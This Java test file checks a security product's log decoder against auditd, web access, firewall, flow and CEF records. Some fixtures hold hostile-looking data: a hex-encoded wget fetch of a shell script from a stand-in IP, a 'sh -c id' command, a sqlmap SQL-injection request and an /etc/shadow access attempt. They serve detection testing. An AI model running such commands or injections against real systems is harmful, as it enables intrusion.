package org.citywall.detection.decode;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.citywall.event.Event;
import org.junit.jupiter.api.Test;

/** auditd, access logs, firewall and flow records, CEF: bare lines and inside syslog. */
class LineFormatsTest {

    @Test
    void auditdExecveDecodesHexArgumentsIntoTheCommandLine() {
        Event e = Decoding.decode("type=EXECVE msg=audit(1764209730.243:24287): argc=3 a0=\"wget\" a1=\"-q\" a2=687474703A2F2F3230332E302E3131332E392F782E7368");
        assertThat(e.fields()).containsEntry("event.module", "auditd").containsEntry("event.dataset", "auditd.log")
                .containsEntry("auditd.log.type", "EXECVE").containsEntry("auditd.log.sequence", 24287L)
                .containsEntry("auditd.log.a0", "wget").containsEntry("auditd.log.a2", "http://203.0.113.9/x.sh")
                .containsEntry("process.command_line", "wget -q http://203.0.113.9/x.sh")
                .containsEntry("process.args", List.of("wget", "-q", "http://203.0.113.9/x.sh"))
                .containsEntry("@timestamp", "2025-11-27T02:15:30.243Z").containsEntry("event.action", "execve");
    }

    @Test
    void auditdSyscallKeepsNumericArgumentsAndMapsTheProcess() {
        Event e = Decoding.decode("node=web-01 type=SYSCALL msg=audit(1764209730.243:24287): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c2f0a2b0 a1=0 ppid=2686 pid=3538 auid=1000 uid=0 comm=\"wget\" exe=\"/usr/bin/wget\" key=\"susp_activity\"");
        assertThat(e.fields()).containsEntry("auditd.log.a0", "55d0c2f0a2b0").containsEntry("process.pid", 3538L)
                .containsEntry("process.parent.pid", 2686L).containsEntry("process.executable", "/usr/bin/wget")
                .containsEntry("process.name", "wget").containsEntry("auditd.log.key", "susp_activity")
                .containsEntry("event.outcome", "success").containsEntry("host.name", "web-01")
                .containsEntry("user.id", "0").containsEntry("user.audit.id", "1000");
    }

    @Test
    void auditdUserRecordsReadTheNestedMessage() {
        Event e = Decoding.decode("type=USER_LOGIN msg=audit(1764209731.001:24301): pid=24301 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.45 terminal=ssh res=failed'");
        assertThat(e.fields()).containsEntry("auditd.log.op", "login").containsEntry("user.name", "root")
                .containsEntry("source.ip", "203.0.113.45").containsEntry("event.outcome", "failure")
                .containsEntry("auditd.log.terminal", "ssh").doesNotContainKey("user.audit.id");
    }

    @Test
    void auditdProctitleAndHexAccountNames() {
        Event e = Decoding.decode("type=PROCTITLE msg=audit(1764209730.243:24287): proctitle=2F62696E2F7368002D63006964");
        assertThat(e.fields()).containsEntry("auditd.log.proctitle", "/bin/sh -c id").containsEntry("process.command_line", "/bin/sh -c id");
        Event acct = Decoding.decode("type=USER_AUTH msg=audit(1764209731.001:1): pid=1 uid=0 msg='op=PAM:authentication acct=726F6F74 res=success'");
        assertThat(acct.fields()).containsEntry("user.name", "root");
    }

    @Test
    void auditdEnrichedPartAndKernelForm() {
        Event e = Decoding.decode("type=SYSCALL msg=audit(1764209730.243:9): syscall=59 success=no uid=1000 comm=\"cat\"\u001DARCH=x86_64 SYSCALL=execve AUID=\"bob\" UID=\"bob\"");
        assertThat(e.fields()).containsEntry("auditd.log.SYSCALL", "execve").containsEntry("auditd.log.syscall", "59")
                .containsEntry("user.name", "bob").containsEntry("event.outcome", "failure");
        Event kernel = Decoding.decode("<5>Nov 27 10:15:30 host1 kernel: audit: type=1400 audit(1764209730.100:77): apparmor=\"DENIED\" operation=\"open\" profile=\"/usr/sbin/cupsd\" name=\"/etc/shadow\" pid=981 comm=\"cupsd\"");
        assertThat(kernel.fields()).containsEntry("auditd.log.type", "1400").containsEntry("auditd.log.apparmor", "DENIED")
                .containsEntry("auditd.log.name", "/etc/shadow").containsEntry("@timestamp", "2026-11-27T10:15:30Z")
                .containsEntry("host.name", "host1");
    }

    @Test
    void combinedAccessLog() {
        Event e = Decoding.decode("203.0.113.9 - alice [27/Nov/2026:10:15:35 +0800] \"GET /search?q=%27%20or%201%3D1--#frag HTTP/1.1\" 403 162 \"https://ref.example/\" \"sqlmap/1.7.2#stable\"");
        assertThat(e.fields()).containsEntry("event.module", "nginx").containsEntry("event.dataset", "nginx.access")
                .containsEntry("source.ip", "203.0.113.9").containsEntry("user.name", "alice")
                .containsEntry("@timestamp", "2026-11-27T02:15:35Z").containsEntry("http.request.method", "GET")
                .containsEntry("url.original", "/search?q=%27%20or%201%3D1--#frag").containsEntry("url.path", "/search")
                .containsEntry("url.query", "q=%27%20or%201%3D1--").containsEntry("http.version", "1.1")
                .containsEntry("http.response.status_code", 403L).containsEntry("http.response.body.bytes", 162L)
                .containsEntry("http.request.referrer", "https://ref.example/")
                .containsEntry("user_agent.original", "sqlmap/1.7.2#stable").containsEntry("event.outcome", "failure");
    }

    @Test
    void commonLogJunkRequestsEscapedQuotesAndVirtualHosts() {
        Event common = Decoding.decode(Format.APACHE, "10.0.0.1 - - [27/Nov/2026:10:15:35 +0000] \"GET / HTTP/1.0\" 200 -");
        assertThat(common.fields()).containsEntry("event.dataset", "apache.access").containsEntry("http.response.status_code", 200L)
                .doesNotContainKey("http.response.body.bytes").doesNotContainKey("user_agent.original");
        Event junk = Decoding.decode("198.51.100.7 - - [27/Nov/2026:10:15:35 +0000] \"\\x16\\x03\\x01\\x00\\xA5\" 400 157 \"-\" \"-\"");
        assertThat(junk.fields()).containsEntry("http.response.status_code", 400L).doesNotContainKey("url.original")
                .doesNotContainKey("http.request.referrer");
        Event quoted = Decoding.decode(Format.APACHE, "10.0.0.1 - - [27/Nov/2026:10:15:35 +0000] \"GET /a\\\"b HTTP/1.1\" 200 5 \"-\" \"x \\\"y\\\"\"");
        assertThat(quoted.fields()).containsEntry("url.original", "/a\\\"b").containsEntry("user_agent.original", "x \\\"y\\\"");
        Event vhost = Decoding.decode(Format.APACHE, "portal.gov.cn:443 10.0.0.1 - - [27/Nov/2026:10:15:35 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"curl\"");
        assertThat(vhost.fields()).containsEntry("url.domain", "portal.gov.cn").containsEntry("source.ip", "10.0.0.1");
    }

    @Test
    void accessLogInsideSyslogKeepsTheEnvelopeTime() {
        Event e = Decoding.decode("<190>Nov 27 10:15:35 web-02 apache2: 203.0.113.9 - - [27/Nov/2026:10:15:34 +0800] \"GET /x HTTP/1.1\" 404 1 \"-\" \"-\"");
        assertThat(e.fields()).containsEntry("event.dataset", "apache.access").containsEntry("@timestamp", "2026-11-27T10:15:35Z")
                .containsEntry("host.name", "web-02").containsEntry("url.path", "/x");
    }

    @Test
    void iptablesLogLines() {
        Event e = Decoding.decode("<4>Nov 27 10:15:34 fw-edge kernel: [8723312.443521] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56 SRC=203.0.113.77 DST=10.0.0.4 LEN=60 TTL=49 ID=54321 DF PROTO=TCP SPT=51234 DPT=22 WINDOW=29200 SYN URGP=0");
        assertThat(e.fields()).containsEntry("event.module", "firewall").containsEntry("event.dataset", "firewall.log")
                .containsEntry("event.action", "deny").containsEntry("firewall.prefix", "[UFW BLOCK]")
                .containsEntry("event.outcome", "failure").containsEntry("event.type", List.of("connection", "denied"))
                .containsEntry("source.ip", "203.0.113.77").containsEntry("destination.ip", "10.0.0.4")
                .containsEntry("source.port", 51234L).containsEntry("destination.port", 22L)
                .containsEntry("network.transport", "tcp").containsEntry("observer.ingress.interface.name", "eth0")
                .doesNotContainKey("observer.egress.interface.name").containsEntry("firewall.flags", List.of("DF", "SYN"))
                .containsEntry("firewall.TTL", "49");
        Event bare = Decoding.decode("DROP-IN: IN=eth1 OUT= SRC=2001:db8::1 DST=2001:db8::2 PROTO=UDP SPT=53 DPT=5353");
        assertThat(bare.fields()).containsEntry("event.action", "drop").containsEntry("event.outcome", "failure")
                .containsEntry("source.ip", "2001:db8::1")
                .containsEntry("network.transport", "udp");
    }

    @Test
    void keyValueConnectionRecords() {
        Event forti = Decoding.decode("date=2026-11-27 time=10:15:30 devname=\"FG100F\" srcip=10.1.5.23 srcport=53211 dstip=203.0.113.80 dstport=443 proto=6 action=\"deny\" policyid=12");
        assertThat(forti.fields()).containsEntry("event.module", "firewall").containsEntry("source.ip", "10.1.5.23")
                .containsEntry("destination.port", 443L).containsEntry("network.transport", "tcp")
                .containsEntry("event.action", "deny").containsEntry("firewall.devname", "FG100F");
        Event flow = Decoding.decode("src=10.0.0.1 dst=10.0.0.2 sport=1 dport=2 proto=udp bytes=1200 packets=3 action=accept");
        assertThat(flow.fields()).containsEntry("event.module", "netflow").containsEntry("event.dataset", "netflow.log")
                .containsEntry("network.bytes", 1200L).containsEntry("network.packets", 3L).containsEntry("event.action", "allow");
        Event viaSyslog = Decoding.decode("<189>date=2026-11-27 time=10:15:30 srcip=10.1.5.23 dstip=203.0.113.80 action=accept");
        assertThat(viaSyslog.fields()).containsEntry("event.dataset", "firewall.log").containsEntry("log.syslog.priority", 189L);
    }

    @Test
    void vpcFlowLogs() {
        Event e = Decoding.decode("2 123456789012 eni-0a1b2c3d4e5f60718 203.0.113.12 10.0.1.5 49152 22 6 20 4249 1764209730 1764209790 REJECT OK");
        assertThat(e.fields()).containsEntry("event.dataset", "aws.vpcflow").containsEntry("cloud.account.id", "123456789012")
                .containsEntry("source.ip", "203.0.113.12").containsEntry("destination.port", 22L)
                .containsEntry("network.transport", "tcp").containsEntry("event.action", "deny")
                .containsEntry("network.bytes", 4249L).containsEntry("@timestamp", "2025-11-27T02:15:30Z");
        Event nodata = Decoding.decode("2 123456789012 eni-0a1b2c3d4e5f60718 - - - - - - - 1764209730 1764209790 - NODATA");
        assertThat(nodata.fields()).containsEntry("aws.vpcflow.log_status", "NODATA").doesNotContainKey("source.ip");
    }

    @Test
    void cefHeaderEscapesAndExtensions() {
        Event e = Decoding.decode("CEF:0|Sec\\|Corp|Fire\\\\wall|1.0|100|Blocked a=b|High|src=10.0.0.1 dst=2.1.2.2 spt=1232 suser=alice act=block request=https://x/?a\\=1 msg=multi word\\nline cs1Label=Rule cs1=no \\= sign rt=1764209730123");
        assertThat(e.fields()).containsEntry("event.module", "cef").containsEntry("cef.device.vendor", "Sec|Corp")
                .containsEntry("cef.device.product", "Fire\\wall").containsEntry("cef.name", "Blocked a=b")
                .containsEntry("event.severity", 8L).containsEntry("source.ip", "10.0.0.1").containsEntry("destination.ip", "2.1.2.2")
                .containsEntry("source.port", 1232L).containsEntry("user.name", "alice").containsEntry("event.action", "block")
                .containsEntry("url.original", "https://x/?a=1").containsEntry("message", "multi word\nline")
                .containsEntry("cef.cs1Label", "Rule").containsEntry("cef.cs1", "no = sign")
                .containsEntry("@timestamp", "2025-11-27T02:15:30.123Z").containsEntry("event.code", "100");
    }

    @Test
    void cefInsideSyslogAndUnescapedEqualsInValues() {
        Event e = Decoding.decode("<134>Nov 27 10:15:30 ids1 CEF:0|V|P|1|sig|Name|5|request=http://h/p?x=1&y=2 src=10.0.0.9");
        assertThat(e.fields()).containsEntry("cef.request", "http://h/p?x=1&y=2").containsEntry("source.ip", "10.0.0.9")
                .containsEntry("host.name", "ids1").containsEntry("@timestamp", "2026-11-27T10:15:30Z");
    }

    @Test
    void cefWithABrokenHeaderIsADecodeFailure() {
        Event e = Decoding.decode("CEF:0|only|three");
        assertThat(e.fields()).containsEntry("error.type", "cef.header").containsEntry(EventDecoder.FIELD_DECODE_COLUMN, 16L); // the end: a field is missing
        assertThat(e.hasTag(EventDecoder.TAG_DECODE_FAILURE)).isTrue();
    }
}
